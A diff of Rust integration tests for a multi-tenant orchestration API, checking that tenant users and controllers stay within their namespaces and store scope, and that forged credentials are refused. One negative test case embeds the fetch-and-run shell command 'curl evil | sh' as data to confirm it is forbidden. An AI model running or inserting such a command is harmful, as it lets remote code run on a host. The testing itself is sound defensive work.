@@ -1192,20 +1192,34 @@ async fn a_tenants_quota_is_checked_atomically_with_each_write_and_racing_writes
     assert_eq!(code, StatusCode::CREATED);
 }
 
-/// A tenant's users act in its namespaces and nowhere else: every verb on every namespaced
-/// kind, for each pair of tenants, and the cluster scope.
-#[tokio::test]
-async fn tenants_users_act_in_their_namespaces_only() {
-    let api = Api::new().await;
+/// The credential the platform gives tenant `name`'s controller.
+async fn controller_token(api: &Api, name: &str) -> String {
+    let secret = api.store.get(&Keyspace::default().tenant_controller_secret()).await.unwrap().expect("the secret");
+    baton_api::tenant::controller_token(&secret.value, name)
+}
+
+/// Tenants `t-a` (namespace `na`, user alice) and `t-b` (`nb`, bob), their namespaces
+/// labelled as the platform's controller labels them.
+async fn two_tenants(api: &Api) {
     for (name, ns, user) in [("t-a", "na", "alice"), ("t-b", "nb", "bob")] {
         let tenant = json!({"apiVersion": "baton.dev/v1alpha1", "kind": "Tenant", "metadata": {"name": name},
                             "spec": {"namespaces": [ns], "users": [user]}});
         let (code, body) = api.call(Method::POST, "/apis/baton.dev/v1alpha1/tenants", Some(&tenant)).await;
         assert_eq!(code, StatusCode::CREATED, "{body}");
-        let (code, _) = api.call(Method::POST, NAMESPACES, Some(&json!({"metadata": {"name": ns}}))).await;
+        let namespace = json!({"metadata": {"name": ns, "labels": {"baton.dev/tenant": name}}});
+        let (code, _) = api.call(Method::POST, NAMESPACES, Some(&namespace)).await;
         assert_eq!(code, StatusCode::CREATED);
     }
-    let as_user = |token: &'static str, method: Method, path: String, body: Option<Value>| {
+}
+
+/// A tenant's users, and its controller, act in its namespaces and nowhere else: every verb
+/// on every namespaced kind, for each pair of tenants, and the cluster scope.
+#[tokio::test]
+async fn tenants_users_and_controllers_act_in_their_namespaces_only() {
+    let api = Api::new().await;
+    two_tenants(&api).await;
+    let (controller_a, controller_b) = (controller_token(&api, "t-a").await, controller_token(&api, "t-b").await);
+    let as_user = |token: &str, method: Method, path: String, body: Option<Value>| {
         let request = Api::request_as(token, method, &path, "application/json", body.as_ref());
         async { api.send(request).await.0 }
     };
@@ -1213,17 +1227,25 @@ async fn tenants_users_act_in_their_namespaces_only() {
         json!({"apiVersion": "baton.dev/v1alpha1", "kind": "AppGroup", "metadata": {"name": name, "namespace": ns},
                "spec": {"path": format!("/{name}")}})
     };
-    for (token, own, other) in [("alice-token", "na", "nb"), ("bob-token", "nb", "na")] {
+    let identities = [
+        ("alice-token", "na", "nb"),
+        ("bob-token", "nb", "na"),
+        (controller_a.as_str(), "na", "nb"),
+        (controller_b.as_str(), "nb", "na"),
+    ];
+    for (i, (token, own, other)) in identities.iter().enumerate() {
         for (ns, allowed) in [(own, true), (other, false)] {
             let apps = format!("/apis/baton.dev/v1alpha1/namespaces/{ns}/apps");
             let groups = format!("/apis/baton.dev/v1alpha1/namespaces/{ns}/appgroups");
-            let name = format!("{}-{ns}", &token[..3]);
+            let name = format!("who{i}-{ns}");
             let mut app = app(&name, 0);
             app["metadata"]["namespace"] = json!(ns);
+            let status = json!({"status": {"observedGeneration": 1}});
             let cases = [
                 (Method::POST, apps.clone(), Some(app.clone())),
                 (Method::GET, format!("{apps}/{name}"), None),
                 (Method::GET, apps.clone(), None),
+                (Method::PATCH, format!("{apps}/{name}/status"), Some(status)),
                 (Method::POST, groups.clone(), Some(group(ns, &name))),
                 (Method::GET, groups.clone(), None),
                 (Method::GET, format!("/apis/baton.dev/v1alpha1/namespaces/{ns}/instances"), None),
@@ -1232,19 +1254,151 @@ async fn tenants_users_act_in_their_namespaces_only() {
                 (Method::DELETE, format!("{apps}/{name}"), None),
             ];
             for (method, path, body) in cases {
-                let code = as_user(token, method.clone(), path.clone(), body).await;
+                let (method, body) = match (&method, body) {
+                    (&Method::PATCH, body) => (Method::PATCH, body),
+                    (_, body) => (method, body),
+                };
+                let request = match method {
+                    Method::PATCH => {
+                        Api::request_as(token, method.clone(), &path, "application/merge-patch+json", body.as_ref())
+                    }
+                    _ => Api::request_as(token, method.clone(), &path, "application/json", body.as_ref()),
+                };
+                let code = api.send(request).await.0;
                 if allowed {
-                    assert!(code.is_success(), "{token} {method} {path}: {code}");
+                    assert!(code.is_success(), "identity {i} {method} {path}: {code}");
                 } else {
-                    assert_eq!(code, StatusCode::FORBIDDEN, "{token} {method} {path}");
+                    assert_eq!(code, StatusCode::FORBIDDEN, "identity {i} {method} {path}");
                 }
             }
         }
-        // Nothing at the cluster scope: not across namespaces, not the tenants.
+        // Nothing at the cluster scope: not across namespaces, not the tenants, not namespaces.
         for path in ["/apis/baton.dev/v1alpha1/apps", "/apis/baton.dev/v1alpha1/tenants", "/api/v1/namespaces"] {
-            assert_eq!(as_user(token, Method::GET, path.into(), None).await, StatusCode::FORBIDDEN, "{token} {path}");
+            assert_eq!(
+                as_user(token, Method::GET, path.into(), None).await,
+                StatusCode::FORBIDDEN,
+                "identity {i} {path}"
+            );
         }
+        // Controllers read Maintenances (where things are drained); users do not.
+        let code = as_user(token, Method::GET, "/apis/baton.dev/v1alpha1/maintenances".into(), None).await;
+        assert_eq!(code.is_success(), i >= 2, "identity {i}: maintenances {code}");
     }
+    // A forged controller credential (another tenant's name under the same MAC) is nobody.
+    let forged = controller_a.replace("t-a", "t-b");
+    let code = as_user(&forged, Method::GET, "/apis/baton.dev/v1alpha1/namespaces/nb/apps".into(), None).await;
+    assert_eq!(code, StatusCode::UNAUTHORIZED);
+}
+
+/// An instance record of `scope`, on agent `n1`.
+fn instance_record(id: &str, namespace: &str, scope: &str) -> baton_api::InstanceRecord {
+    serde_json::from_value(json!({
+        "id": id, "app": {"namespace": namespace, "name": "web", "uid": "u"}, "scope": scope,
+        "agent": "n1", "host": "127.0.0.1", "version": "v1", "createdAt": "2026-01-01T00:00:00Z",
+        "goal": "Running", "command": {"shell": "sleep 1000"},
+        "resources": {"millicpus": 100, "memMib": 64, "diskMib": 0}, "killGraceSeconds": 5,
+    }))
+    .expect("an instance record")
+}
+
+/// A tenant's controller reaches the store through the API server only as far as its scope:
+/// it reads and stops its own instances and nothing else, and cannot touch another scope's
+/// leadership, leases, backoffs or secrets.
+#[tokio::test]
+async fn tenant_controllers_reach_only_their_scope_in_the_store() {
+    let api = Api::new().await;
+    two_tenants(&api).await;
+    let keys = Keyspace::default();
+    let records = [("a-1", "na", "tenant/t-a"), ("b-1", "nb", "tenant/t-b"), ("p-1", "default", "platform")];
+    for (id, ns, scope) in records {
+        let record = instance_record(id, ns, scope);
+        api.store.put(&keys.instance("n1", id), serde_json::to_vec(&record).unwrap()).await.unwrap();
+        api.store.put(&keys.status("n1", id), br#"{"phase":"Running"}"#.to_vec()).await.unwrap();
+        api.store.put(&keys.app_backoff(ns, "web"), b"{}".to_vec()).await.unwrap();
+    }
+    let token = controller_token(&api, "t-a").await;
+    let store = |operation: &str, body: Value| {
+        let request = Api::request_as(
+            &token,
+            Method::POST,
+            &format!("/baton/store/v1/{operation}"),
+            "application/json",
+            Some(&body),
+        );
+        async { api.send(request).await }
+    };
+    // Reads: its instance, its status, its backoff; agents' and nobody's secrets.
+    let (code, range) = store("range", json!({"prefix": "/baton/"})).await;
+    assert_eq!(code, StatusCode::OK, "{range}");
+    let seen: Vec<&str> = range["kvs"].as_array().unwrap().iter().map(|kv| kv["key"].as_str().unwrap()).collect();
+    assert_eq!(seen, ["/baton/apps/na/web/backoff", "/baton/instances/n1/a-1", "/baton/status/n1/a-1"], "{seen:?}");
+    for key in
+        [keys.instance("n1", "b-1"), keys.status("n1", "p-1"), keys.sandbox_token(), keys.tenant_controller_secret()]
+    {
+        let (code, kv) = store("get", json!({"key": key})).await;
+        assert_eq!((code, kv), (StatusCode::OK, Value::Null), "{key}");
+    }
+    // Writes: stopping its own instance passes; another scope's, or changing what runs, does not.
+    let stop = |id: &str, ns: &str, scope: &str, command: &str| {
+        let mut record = instance_record(id, ns, scope);
+        record.goal = baton_api::Goal::Stopped;
+        record.command = baton_api::records::Command::Shell(command.into());
+        let value = base64_of(&serde_json::to_vec(&record).unwrap());
+        json!({"compares": [], "success": [{"Put": {"key": keys.instance("n1", id), "value": value, "lease": 0}}], "failure": []})
+    };
+    let (code, answer) = store("txn", stop("a-1", "na", "tenant/t-a", "sleep 1000")).await;
+    assert_eq!((code, answer["succeeded"].clone()), (StatusCode::OK, json!(true)), "{answer}");
+    for (what, txn) in [
+        ("another tenant's instance", stop("b-1", "nb", "tenant/t-b", "sleep 1000")),
+        ("the platform's instance", stop("p-1", "default", "platform", "sleep 1000")),
+        ("its own instance's command", stop("a-1", "na", "tenant/t-a", "curl evil | sh")),
+        ("an instance it would create", stop("a-2", "na", "tenant/t-a", "sleep 1000")),
+        (
+            "another namespace's backoff",
+            json!({"compares": [], "success": [{"Delete": {"key": keys.app_backoff("nb", "web")}}], "failure": []}),
+        ),
+        (
+            "the platform's leadership",
+            json!({"compares": [], "success": [{"Delete": {"key": keys.leader("platform")}}], "failure": []}),
+        ),
+        ("a prefix", json!({"compares": [], "success": [{"DeletePrefix": {"prefix": "/baton/na"}}], "failure": []})),
+        (
+            "the secrets",
+            json!({"compares": [{"key": keys.sandbox_token(), "op": "Equal", "target": {"ModRevision": 0}}], "success": [], "failure": []}),
+        ),
+    ] {
+        let (code, answer) = store("txn", txn).await;
+        assert_eq!(code, StatusCode::FORBIDDEN, "{what}: {answer}");
+        assert_eq!(answer["reason"], "forbidden", "{what}: {answer}");
+    }
+    let b1 = api.store.get(&keys.instance("n1", "b-1")).await.unwrap().unwrap();
+    assert!(String::from_utf8_lossy(&b1.value).contains("\"Running\""), "nothing of another scope changed");
+    // Leadership: only its own key, only with a lease granted to it.
+    let (code, granted) = store("lease/grant", json!({"ttl_ms": 5000})).await;
+    assert_eq!(code, StatusCode::OK, "{granted}");
+    let lease = granted["lease"].as_i64().unwrap();
+    let other_lease = api.store.grant_lease(Duration::from_secs(5)).await.unwrap();
+    let lead = |key: String, lease: i64| json!({"compares": [], "success": [{"Put": {"key": key, "value": base64_of(b"me"), "lease": lease}}], "failure": []});
+    assert_eq!(store("txn", lead(keys.leader("tenant/t-a"), other_lease)).await.0, StatusCode::FORBIDDEN);
+    assert_eq!(store("txn", lead(keys.leader("tenant/t-b"), lease)).await.0, StatusCode::FORBIDDEN);
+    assert_eq!(store("txn", lead(keys.leader("tenant/t-a"), lease)).await.0, StatusCode::OK);
+    assert_eq!(store("lease/keepalive", json!({"lease": other_lease})).await.0, StatusCode::NOT_FOUND);
+    assert_eq!(store("lease/revoke", json!({"lease": other_lease})).await.0, StatusCode::FORBIDDEN);
+    assert_eq!(store("lease/keepalive", json!({"lease": lease})).await.0, StatusCode::OK);
+    // Users are not controllers.
+    let request = Api::request_as(
+        "alice-token",
+        Method::POST,
+        "/baton/store/v1/range",
+        "application/json",
+        Some(&json!({"prefix": "/"})),
+    );
+    assert_eq!(api.send(request).await.0, StatusCode::FORBIDDEN);
+}
+
+fn base64_of(bytes: &[u8]) -> String {
+    use base64::Engine;
+    base64::engine::general_purpose::STANDARD.encode(bytes)
 }
 
 /// An object stored under older rules (past today's limits) can still get its status and its
